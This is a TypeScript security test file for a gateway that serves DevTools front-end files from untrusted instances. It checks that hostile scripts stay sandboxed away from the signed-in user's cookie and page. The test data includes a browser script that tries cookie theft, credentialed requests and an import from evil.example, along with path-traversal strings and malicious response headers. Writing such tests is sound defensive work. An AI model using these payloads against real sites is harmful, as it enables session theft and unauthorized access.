// An instance that serves hostile files in place of the DevTools front end. They run in a browser in which a person is
// signed in to Berth, and must reach neither the person's cookie nor the page around them.
import assert from 'node:assert/strict'
import { createServer, type IncomingMessage, type RequestListener } from 'node:http'
import { once } from 'node:events'
import { connect, type AddressInfo } from 'node:net'
import { after, test, type TestContext } from 'node:test'
import { chromium, type Page } from 'playwright-core'
import { eventually } from '../fixtures/host.ts'
import { startGateway, type TestGateway } from '../fixtures/gateway.ts'

const ENTRY = '/devtools/entrypoints/devtools_app/devtools_app.js'
const COOKIE = 'signed-in-cookie'
const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox'] })
after(() => browser.close())

/** Tries everything, and says what it could do. */
const HOSTILE_SCRIPT = `
  const got = []
  const attempt = async (name, act) => {
    try { got.push(name + ': ' + (await act())) } catch (error) { /* refused */ }
  }
  const here = location.protocol + '//' + location.host
  const other = location.pathname.replace(/page.*/, '')
  await attempt('cookie', () => document.cookie)
  await attempt('parent', () => parent !== self ? parent.document.title : (() => { throw 0 })())
  await attempt('opener', () => { if (!opener) throw 0; return opener.document.title })
  await attempt('fetch', () => fetch(here + '/browsers', { credentials: 'include' }).then((r) => r.text()))
  await attempt('no-cors', () => fetch(here + '/browsers?no-cors', { mode: 'no-cors', credentials: 'include' }).then((r) => r.type))
  // It says that it has sent what the policy stops, as an image and a form do.
  navigator.sendBeacon(here + '/browsers?beacon', 'x')
  await attempt('service worker', () => navigator.serviceWorker.register(here + other + 'front_end/worker.js').then(() => 'registered'))
  await attempt('evil module', () => import('https://evil.example/a.js').then(() => 'imported'))
  await attempt('own module', () => import(here + '/app.js').then(() => 'imported'))
  await attempt('frame storage', () => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    return typeof frame.contentWindow.localStorage
  })
  await attempt('framed page', () => new Promise((resolve, reject) => {
    const frame = document.createElement('iframe')
    frame.src = here + '/browsers?framed'
    frame.onload = () => { try { resolve(frame.contentDocument.body.textContent) } catch (error) { reject(error) } }
    setTimeout(reject, 500)
    document.body.append(frame)
  }))
  await attempt('socket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket(here.replace('http', 'ws') + '/browser/cdp?jwt=x')
    socket.onopen = () => resolve('open')
    socket.onerror = reject
  }))
  await attempt('worker', () => new Promise((resolve, reject) => {
    const code = 'fetch("' + here + '/browsers?worker", { credentials: "include" }).then(() => postMessage("fetched"), () => postMessage("refused"))'
    const worker = new (Object.getPrototypeOf(Worker))('data:text/javascript,' + encodeURIComponent(code))
    worker.onmessage = ({ data }) => data === 'fetched' ? resolve(data) : reject()
    worker.onerror = reject
  }))
  new Image().src = here + '/browsers?image'
  await attempt('form', () => {
    const form = document.body.appendChild(document.createElement('form'))
    Object.assign(form, { method: 'post', action: here + '/browsers?form', target: '_self' })
    form.submit()
    throw 0
  })
  await attempt('top', () => { if (top === self) throw 0; top.location = here + '/browsers?top'; return 'moved' })
  await attempt('popup', () => { open(here + '/browsers?popup'); throw 0 })
  document.body.textContent = 'tried ' + JSON.stringify(got)
`

interface Hostile extends TestGateway {
  /** Requests that reached the gateway's server, without those of the front end. */
  readonly requests: IncomingMessage[]
  readonly origin: string
  readonly link: string
  readonly fileUrl: (path: string) => string
}

async function startHostile(t: TestContext, answer: RequestListener): Promise<Hostile> {
  const instance = createServer(answer).listen(0, '127.0.0.1')
  await once(instance, 'listening')
  t.after(() => {
    instance.closeAllConnections()
    instance.close()
  })
  const started = await startGateway(t, (instance.address() as AddressInfo).port)
  const requests: IncomingMessage[] = []
  started.server.on('request', (request: IncomingMessage) => {
    if (!request.url!.startsWith('/browser/devtools/')) requests.push(request)
  })
  const token = started.tokens.sign({ sessionId: 'one', audience: ['devtools'] })
  const origin = `http://127.0.0.1:${started.port}`
  const base = `${origin}/browser/devtools/${token}`
  return {
    ...started,
    requests,
    origin,
    link: `${base}/page/AB12`,
    fileUrl: (path) => `${base}/front_end/${path}`,
  }
}

const hostileEntry: RequestListener = (request, response) => {
  const isEntry = request.url === ENTRY
  response.writeHead(200, {
    'content-type': 'text/html',
    'set-cookie': 'from=instance',
    'content-security-policy': "default-src * 'unsafe-inline'",
    'access-control-allow-credentials': 'true',
    location: 'https://evil.example/',
    'service-worker-allowed': '/',
    'x-evil': 'yes',
  })
  response.end(isEntry ? HOSTILE_SCRIPT : '<script>alert(1)</script>')
}

async function signedIn(t: TestContext, { origin }: Hostile): Promise<Page> {
  const context = await browser.newContext()
  t.after(() => context.close())
  await context.addCookies([
    { name: 'session', value: COOKIE, url: origin, httpOnly: true, sameSite: 'Strict' },
  ])
  return context.newPage()
}

/** What the script could do, and the requests that it made. */
async function assertHarmless(hostile: Hostile, result: string): Promise<void> {
  assert.equal(result, 'tried []')
  // The popup is a page of its own: its request arrives last.
  await eventually('the popup has asked', () => hostile.requests.some(({ url }) => url!.endsWith('popup')))
  assert.deepEqual(
    hostile.requests.map(({ url }) => url).filter((url) => url !== '/favicon.ico' && url !== '/outer'),
    ['/browsers?popup'],
  )
  for (const { url, headers } of hostile.requests) {
    if (url !== '/outer') assert.doesNotMatch(headers.cookie ?? '', new RegExp(COOKIE), url)
  }
}

test('a hostile front end in a frame reaches neither the page around it nor the cookie', async (t) => {
  const hostile = await startHostile(t, hostileEntry)
  const page = await signedIn(t, hostile)
  await page.route('**/outer', async (route) => {
    const body = `<title>Secret title</title><iframe src="${hostile.link}"></iframe>`
    await route.fulfill({ contentType: 'text/html', body })
  })
  await page.goto(`${hostile.origin}/outer`)
  const text = page.frameLocator('iframe').first().getByText('tried')
  await assertHarmless(hostile, (await text.textContent())!)
  assert.equal(page.url(), `${hostile.origin}/outer`)
})

test('a hostile front end in a window of its own has no origin either', async (t) => {
  const hostile = await startHostile(t, hostileEntry)
  const page = await signedIn(t, hostile)
  await page.goto(hostile.link)
  await assertHarmless(hostile, (await page.getByText('tried').textContent())!)
  assert.equal(await page.evaluate('self.origin'), 'null')
})

test('the cookie would be sent to the same path by the person’s own page', async (t) => {
  const hostile = await startHostile(t, hostileEntry)
  const page = await signedIn(t, hostile)
  await page.goto(`${hostile.origin}/browsers`)
  assert.match(hostile.requests[0]!.headers.cookie!, new RegExp(COOKIE))
})

test('of a file only the bytes are the instance’s', async (t) => {
  const hostile = await startHostile(t, hostileEntry)
  const answer = await fetch(hostile.fileUrl('panels/a.js'))
  assert.equal(answer.status, 200)
  assert.equal(await answer.text(), '<script>alert(1)</script>')
  const {
    date,
    'keep-alive': alive,
    connection,
    'transfer-encoding': encoding,
    ...headers
  } = Object.fromEntries(answer.headers)
  assert.ok(date && alive && connection && encoding)
  assert.deepEqual(headers, {
    'access-control-allow-origin': '*',
    'cache-control': 'no-store',
    'content-encoding': 'gzip',
    'content-security-policy':
      "sandbox; default-src 'none'; style-src 'unsafe-inline'; frame-ancestors 'none'",
    'content-type': 'text/javascript; charset=utf-8',
    'referrer-policy': 'no-referrer',
    vary: 'accept-encoding',
    'x-content-type-options': 'nosniff',
    'x-robots-tag': 'noindex',
  })
})

test('a page of the server itself may not load a file of an instance', async (t) => {
  const hostile = await startHostile(t, hostileEntry)
  const page = await signedIn(t, hostile)
  await page.goto(`${hostile.origin}/own`)
  const loaded = await page.evaluate(
    `import(${JSON.stringify(hostile.fileUrl('panels/a.js'))}).then(() => 'ran', () => 'refused')`,
  )
  assert.equal(loaded, 'refused')
  const worker = await page.evaluate(
    `navigator.serviceWorker.register(${JSON.stringify(hostile.fileUrl('worker.js'))}).then(() => 'ran', () => 'refused')`,
  )
  assert.equal(worker, 'refused')
  assert.equal(hostile.session.connects, 0)
})

test('a picture of an instance that is opened by itself runs nothing', async (t) => {
  const picture =
    '<svg xmlns="http://www.w3.org/2000/svg"><title>quiet</title><script>document.documentElement.setAttribute("ran", "yes")</script></svg>'
  const hostile = await startHostile(t, (_request, response) => response.end(picture))
  const page = await signedIn(t, hostile)
  await page.goto(hostile.fileUrl('Images/a.svg'))
  assert.equal(await page.locator('svg').getAttribute('ran'), null)
})

test('paths that lead elsewhere reach no instance', async (t) => {
  const hostile = await startHostile(t, hostileEntry)
  const { port } = hostile
  const prefix = new URL(hostile.fileUrl('')).pathname
  for (const path of [
    '../json/list',
    '..%2f..%2fjson%2flist',
    '%2e%2e/json/list',
    '%252e%252e/a.js',
    '//evil.example/a.js',
    '/a.js',
    'a//b.js',
    'a/../b.js',
    'a/./b.js',
    './a.js',
    '.a.js',
    'a\\..\\b.js',
    'a.js%00.css',
    'a.js/',
    'a.js;b',
    'a.html',
    'a.JS',
    'a.txt',
    'a',
    'js',
    '',
    `${'a/'.repeat(200)}a.js`,
    'ä.js',
    'a.js#b',
    'a b.js',
    'a.js@evil.example',
    'constructor',
    'a.constructor',
  ]) {
    const status = await statusOf(port, `${prefix}${path}`)
    assert.ok(status === 404 || status === 400 || status === 200, `${path}: ${status}`)
    // What is no path of the gateway falls to the fixture's other route, which answers 200.
    assert.equal(hostile.session.connects, 0, path)
  }
})

test('redirects, errors and floods of an instance are not passed on', async (t) => {
  const answers: Record<string, RequestListener> = {
    '/devtools/redirect.js': (_request, response) =>
      response.writeHead(302, { location: 'https://evil.example/' }).end(),
    '/devtools/missing.js': (_request, response) => response.writeHead(404).end('<h1>evil'),
    '/devtools/fault.js': (_request, response) => response.writeHead(500).end('<h1>evil'),
    '/devtools/flood.js': (_request, response) => {
      const chunk = Buffer.alloc(1024 * 1024, 'a')
      const more = () => {
        while (response.write(chunk));
      }
      response.on('drain', more)
      more()
    },
    '/devtools/early.js': (_request, response) => {
      response.writeHead(200, { 'content-length': '1000' }).write('short', () => response.destroy())
    },
  }
  const hostile = await startHostile(t, (request, response) => answers[request.url!]!(request, response))
  for (const [file, status] of [
    ['redirect.js', 503],
    ['missing.js', 404],
    ['fault.js', 503],
  ] as const) {
    const answer = await fetch(hostile.fileUrl(file), { redirect: 'manual' })
    assert.equal(answer.status, status, file)
    assert.doesNotMatch(await answer.text(), /evil/)
  }
  for (const file of ['flood.js', 'early.js']) {
    await assert.rejects(
      fetch(hostile.fileUrl(file)).then((answer) => answer.arrayBuffer()),
      file,
    )
  }
  await eventually('nothing is held', () => hostile.session.holds === 0 && hostile.session.streams.size === 0)
})

test('only the page’s own sandbox and this server may connect; other origins and methods are refused', async (t) => {
  const hostile = await startHostile(t, hostileEntry)
  const file = hostile.fileUrl('panels/a.js')
  const cdp = hostile.url.replace('ws:', 'http:').replace('?', '/json/version?')
  assert.equal(await statusWith(file, { headers: { origin: 'null' } }), 200)
  assert.equal(await statusWith(file, { headers: { origin: hostile.origin } }), 200)
  for (const origin of ['https://evil.example', 'http://127.0.0.1:1', 'file://', 'NULL', '']) {
    assert.equal(await statusWith(file, { headers: { origin } }), 403, origin)
    assert.equal(await statusWith(hostile.link, { headers: { origin } }), 403, origin)
  }
  // The sandbox is for DevTools alone.
  assert.equal(await statusWith(cdp, { headers: { origin: 'null' } }), 403)
  for (const method of ['HEAD', 'POST', 'PUT']) assert.equal(await statusWith(file, { method }), 405, method)
  hostile.session.end('deleted')
  for (const url of [file, hostile.link]) assert.equal(await statusWith(url, {}), 404)
})

const statusWith = async (url: string, init: RequestInit) => (await fetch(url, init)).status

/** The path as it is written here, which fetch() would change. */
async function statusOf(port: number, path: string): Promise<number> {
  const socket = connect({ port, host: '127.0.0.1' })
  await once(socket, 'connect')
  socket.end(Buffer.from(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nConnection: close\r\n\r\n`))
  let text = ''
  for await (const chunk of socket) text += String(chunk)
  return Number(text.split(' ', 2)[1])
}
